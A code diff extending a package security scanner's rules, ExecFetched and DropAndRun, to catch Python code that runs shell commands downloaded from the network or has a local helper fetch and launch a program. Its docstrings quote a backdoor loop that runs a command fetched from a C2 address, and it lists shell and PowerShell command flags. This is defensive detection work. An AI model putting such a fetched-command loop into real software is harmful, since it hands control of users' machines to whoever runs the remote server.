@@ -128,6 +128,35 @@ class ExecFetched(BaseRule):
             yield from self._executed(file, package)
         if mentions(file, _INTERPRETER_WORDS):
             yield from self._interpreted(file, package)
+        if may_call(file, "process"):
+            yield from self._commanded(file, package)
+
+    def _commanded(self, file: FileContext, package: PackageContext) -> Iterator[Finding]:
+        """``subprocess.run(requests.get(C2).json()["cmd"], shell=True)``: a shell command that
+        arrives over the network, the loop of a remote-controlled backdoor."""
+        facts = _python(file, "network", words=_FETCH_WORDS)
+        if facts is None:
+            return
+        for call in facts.calls:
+            if "process" not in capabilities(call) or not call.node.args:
+                continue
+            if _interpreter_code(call) is not None:
+                continue  # ``[sys.executable, "-c", code]``: reported as executed code
+            if not any(
+                trace(facts, part, call.function).fetched for part in _command_parts(call.node.args[0])
+            ):
+                continue
+            stage = call_stage(file, package, facts, call)
+            chosen = stage is Stage.RUNTIME and _caller_chosen(facts, call.function)
+            yield self.at_call(
+                file,
+                call,
+                severity=Severity.HIGH if chosen else Severity.CRITICAL,
+                stage=stage,
+                message=f"{call.name}() runs a command that was downloaded from the network: whoever "
+                "answers at that address runs programs on this machine (a remote-controlled backdoor)."
+                + (f" The address is one {call.function}() is given." if chosen else ""),
+            )
 
     def _interpreted(self, file: FileContext, package: PackageContext) -> Iterator[Finding]:
         """``subprocess.Popen([sys.executable, '-c', urlopen(u).read()])``: downloaded source
@@ -199,6 +228,23 @@ class ExecFetched(BaseRule):
 
 
 _INTERPRETER_WORDS = ("executable", "python", "py")
+#: Flags after which a shell or PowerShell takes the command to run.
+_COMMAND_FLAGS = frozenset({"-c", "/c", "/C", "/k", "-Command", "-command", "-EncodedCommand", "-e"})
+
+
+def _command_parts(command: ast.expr) -> list[ast.expr]:
+    """The parts of a process call's command that say *what* runs: a whole command string; of
+    an argument list the program and what follows ``-c``/``/c`` (``["sh", "-c", cmd]``), not
+    the plain arguments a fixed program is handed (``["pip", "show", name]``)."""
+    if not isinstance(command, ast.List | ast.Tuple):
+        return [command]
+    elts = command.elts
+    parts = elts[:1]
+    for at in range(len(elts) - 1):
+        flag = elts[at]
+        if isinstance(flag, ast.Constant) and flag.value in _COMMAND_FLAGS:
+            parts.append(elts[at + 1])
+    return parts
 
 
 def _interpreter_code(call: CallFact) -> ast.expr | None:
@@ -287,6 +333,9 @@ class DropAndRun(BaseRule):
                 (c for c in group if (c.name in _FETCHERS or _fetch_like(c)) and not _loopback(facts, c)),
                 None,
             )
+            helped = None if fetch is not None or scope is None else _download_helper_call(facts, group)
+            if helped is not None:
+                fetch = helped  # ``safe_download(url, exe)``: a local helper fetches and saves
             if fetch is None:
                 continue
             writes = [
@@ -295,6 +344,8 @@ class DropAndRun(BaseRule):
                 if ("file_write" in capabilities(c) or c.name.endswith(_WRITE_SUFFIXES))
                 and c.name not in _CONSOLE_WRITES
             ]
+            if helped is not None:
+                writes.append(helped)
             runs = [c for c in group if _runs_program(facts, c)]
             if writes and not runs:
                 exe = next((w for w in writes if _writes_program(facts, w)), None)
@@ -314,6 +365,8 @@ class DropAndRun(BaseRule):
                 continue
             # Strong when the program run is the file written (same name or path in both calls).
             written = set().union(*(_target(w) for w in writes))
+            if helped is not None:
+                written |= _operands(helped)  # what the helper is told to save
             run = next(
                 (
                     r
@@ -346,6 +399,23 @@ class DropAndRun(BaseRule):
 
 
 _LOOPBACK = LazyPattern(r"(?:[a-z]+://)?(?:127(?:\.\d{1,3}){3}|localhost|\[?::1\]?)(?:[:/]|$)", re.I)
+
+
+def _download_helper_call(facts: Facts, group: list[CallFact]) -> CallFact | None:
+    """A call in ``group`` to one of the file's own functions that itself downloads and saves a
+    file (``safe_download(url, dest)``): the caller decides what is fetched and where it goes,
+    so the caller's arguments are the download's address and path."""
+    for call in group:
+        name = call.name.lstrip("?")
+        if name not in facts.functions or not call.node.args:
+            continue
+        facts.ensure(name)
+        inner = facts.reachable_calls(list(facts.calls_in.get(name, ())), depth=1)
+        fetches = any(c.name in _FETCHERS or _fetch_like(c) for c in inner)
+        saves = any(c.name.endswith(_WRITE_SUFFIXES) or "file_write" in capabilities(c) for c in inner)
+        if fetches and saves:
+            return call
+    return None
 
 
 def _loopback(facts: Facts, fetch: CallFact) -> bool:
